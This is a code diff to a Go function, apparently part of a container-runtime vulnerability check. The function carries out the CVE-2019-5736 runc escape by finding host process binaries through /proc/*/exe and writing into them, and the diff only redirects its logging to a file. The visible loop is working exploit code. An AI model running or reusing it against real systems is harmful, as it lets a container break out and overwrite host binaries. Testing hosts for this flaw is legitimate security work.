@@ -38,17 +38,22 @@ func swap(args []string) error {
 }
 
 // steal looks for processes whose program is not of this container's root, holds on to it, and writes to it as soon as
-// the kernel lets it (CVE-2019-5736). It ends when the file named exists.
+// the kernel lets it (CVE-2019-5736). It ends when the file named exists; what it could do it writes down beside it, since
+// its streams may end before it does.
 func steal(args []string) error {
 	var own unix.Stat_t
 	if err := unix.Stat("/proc/self/exe", &own); err != nil {
+		return err
+	}
+	log, err := os.Create(args[0] + ".log")
+	if err != nil {
 		return err
 	}
 	fmt.Println("waiting")
 	held := map[string]int{}
 	for {
 		if _, err := os.Stat(args[0]); err == nil {
-			fmt.Println("held", len(held))
+			fmt.Fprintln(log, "held", len(held))
 			return nil
 		}
 		list, _ := filepath.Glob("/proc/[0-9]*/exe")
@@ -70,7 +75,7 @@ func steal(args []string) error {
 				continue
 			}
 			if _, err := unix.Write(w, []byte("owned")); err == nil {
-				fmt.Println("stolen", key)
+				fmt.Fprintln(log, "stolen", key)
 			}
 			unix.Close(w)
 		}
